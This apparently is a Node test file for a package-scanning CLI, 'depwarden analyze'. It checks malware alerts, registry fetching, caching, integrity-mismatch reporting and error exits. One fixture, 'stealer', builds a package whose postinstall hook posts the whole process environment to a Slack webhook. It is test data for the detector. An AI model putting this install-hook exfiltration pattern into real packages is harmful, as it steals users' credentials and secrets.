// `depwarden analyze` as users run it: local tarballs without any network, registry targets
// against a local test registry, the JSON and NDJSON shapes, the result cache, the worker
// pool, integrity mismatches, offline misses and bad targets.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { sha512Sri } from '../src/registry/index.js';
import { runInProcess } from './helpers/cli.js';
import { TestRegistry } from './helpers/registry-server.js';
import { packageTgz } from './helpers/tarball.js';

function run(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
  return runInProcess(args, cwd, { NPM_CONFIG_USERCONFIG: join(cwd, 'no-user.npmrc'), ...env });
}

const STEALER = packageTgz({
  'package.json': JSON.stringify({
    name: 'stealer',
    version: '1.0.0',
    scripts: { postinstall: 'node index.js' },
  }),
  'index.js':
    "const https = require('https');\nhttps.request('https://hooks.slack.com/services/T0/B0/x', { method: 'POST' }).end(JSON.stringify(process.env));\n",
});
const PLAIN = packageTgz({
  'package.json': JSON.stringify({ name: 'plain', version: '2.0.0' }),
  'index.js': 'module.exports = (a, b) => a + b;\n',
});

describe('depwarden analyze', () => {
  const registry = new TestRegistry();
  let dir: string;
  let cacheDir: string;
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'dw-analyze-'));
    cacheDir = join(dir, 'cache');
    await writeFile(join(dir, 'stealer-1.0.0.tgz'), STEALER);
    await writeFile(join(dir, 'plain-2.0.0.tgz'), PLAIN);
    const url = await registry.start();
    registry.serve(
      '/plain',
      JSON.stringify({
        name: 'plain',
        versions: {
          '2.0.0': {
            name: 'plain',
            version: '2.0.0',
            dist: { tarball: `${url}plain/-/plain-2.0.0.tgz`, integrity: sha512Sri(PLAIN) },
          },
        },
      }),
    );
    registry.serve('/plain/-/plain-2.0.0.tgz', PLAIN);
    registry.serve(
      '/swapped',
      JSON.stringify({
        name: 'swapped',
        versions: {
          '1.0.0': {
            dist: {
              tarball: `${url}swapped/-/swapped-1.0.0.tgz`,
              integrity: sha512Sri(Buffer.from('the bytes that were published')),
            },
          },
        },
      }),
    );
    registry.serve('/swapped/-/swapped-1.0.0.tgz', STEALER);
  });
  after(async () => {
    await registry.stop();
    await rm(dir, { recursive: true, force: true });
  });

  it('analyses a local .tgz with no network and prints the documented JSON shape', async () => {
    const r = await run(['analyze', 'stealer-1.0.0.tgz', '--json', '--cache-dir', cacheDir], dir);
    assert.equal(r.code, 0, r.stderr);
    const [result] = JSON.parse(r.stdout) as {
      package: { name: string; version: string; integrity: string };
      alerts: {
        type: string;
        severity: string;
        basis?: string;
        evidence: { file: string; line?: number }[];
      }[];
      files: number;
      bytes: number;
      durationMs: number;
    }[];
    assert.deepEqual(result!.package, {
      name: 'stealer',
      version: '1.0.0',
      integrity: sha512Sri(STEALER),
    });
    assert.equal(result!.files, 2);
    assert.ok(result!.bytes > 0);
    assert.equal(typeof result!.durationMs, 'number');
    const malware = result!.alerts.find((a) => a.type === 'malware');
    assert.ok(malware, 'the stealer is malware');
    assert.equal(malware.severity, 'critical');
    assert.equal(malware.basis, 'heuristic');
    assert.equal(malware.evidence[0]?.file, 'index.js');
    assert.equal(malware.evidence[0]?.line, 2);
    assert.equal(registry.requests.length, 0, 'no request for a local tarball');
  });

  it('caches results by integrity and detector versions, and --no-cache bypasses it', async () => {
    const first = await run(
      ['analyze', 'plain-2.0.0.tgz', '--ndjson', '--cache-dir', cacheDir],
      dir,
    );
    const second = await run(
      ['analyze', 'plain-2.0.0.tgz', '--ndjson', '--cache-dir', cacheDir],
      dir,
    );
    assert.equal(JSON.parse(first.stdout).cached, undefined);
    assert.equal(JSON.parse(second.stdout).cached, true);
    assert.deepEqual(JSON.parse(second.stdout).alerts, JSON.parse(first.stdout).alerts);
    const third = await run(
      ['analyze', 'plain-2.0.0.tgz', '--ndjson', '--no-cache', '--cache-dir', cacheDir],
      dir,
    );
    assert.equal(JSON.parse(third.stdout).cached, undefined);
    assert.ok((await readdir(join(cacheDir, 'results'))).length > 0);
  });

  it('fetches name@version from the configured registry and streams NDJSON through the worker pool', async () => {
    const r = await run(
      [
        'analyze',
        'plain@2.0.0',
        'stealer-1.0.0.tgz',
        '--ndjson',
        '--jobs',
        '2',
        '--no-cache',
        '--registry',
        registry.url,
        '--cache-dir',
        cacheDir,
      ],
      dir,
    );
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { package: { name: string } });
    assert.deepEqual(lines.map((l) => l.package.name).sort(), ['plain', 'stealer']);
    assert.ok(registry.hits('/plain/-/plain-2.0.0.tgz') >= 1);
  });

  it('reports a tarball that does not match its integrity as critical and does not analyse it', async () => {
    const r = await run(
      ['analyze', 'swapped@1.0.0', '--json', '--registry', registry.url, '--cache-dir', cacheDir],
      dir,
    );
    assert.equal(r.code, 0, r.stderr);
    const [result] = JSON.parse(r.stdout) as {
      alerts: { type: string; severity: string }[];
      files: number;
    }[];
    assert.deepEqual(
      result!.alerts.map((a) => [a.type, a.severity]),
      [['tarballIntegrityMismatch', 'critical']],
    );
    assert.equal(result!.files, 0);
  });

  it('exits 2 naming what is missing with --offline, and 3 with a hint for a bad target', async () => {
    const offline = await run(
      [
        'analyze',
        'never-seen@1.0.0',
        '--offline',
        '--registry',
        registry.url,
        '--cache-dir',
        cacheDir,
      ],
      dir,
    );
    assert.equal(offline.code, 2);
    assert.match(
      offline.stderr,
      /never-seen@1\.0\.0: the packument of never-seen is not in the cache and --offline was given/,
    );
    const bad = await run(['analyze', 'left-pad@^1.0.0', '--cache-dir', cacheDir], dir);
    assert.equal(bad.code, 3);
    assert.match(bad.stderr, /not an exact version/);
    assert.match(bad.stderr, /hint:/);
    const missing = await run(['analyze', 'missing.tgz', '--cache-dir', cacheDir], dir);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /cannot read missing\.tgz: ENOENT/);
    assert.doesNotMatch(
      missing.stderr + bad.stderr,
      /\n\s+at /,
      'no stack trace for user mistakes',
    );
  });
});
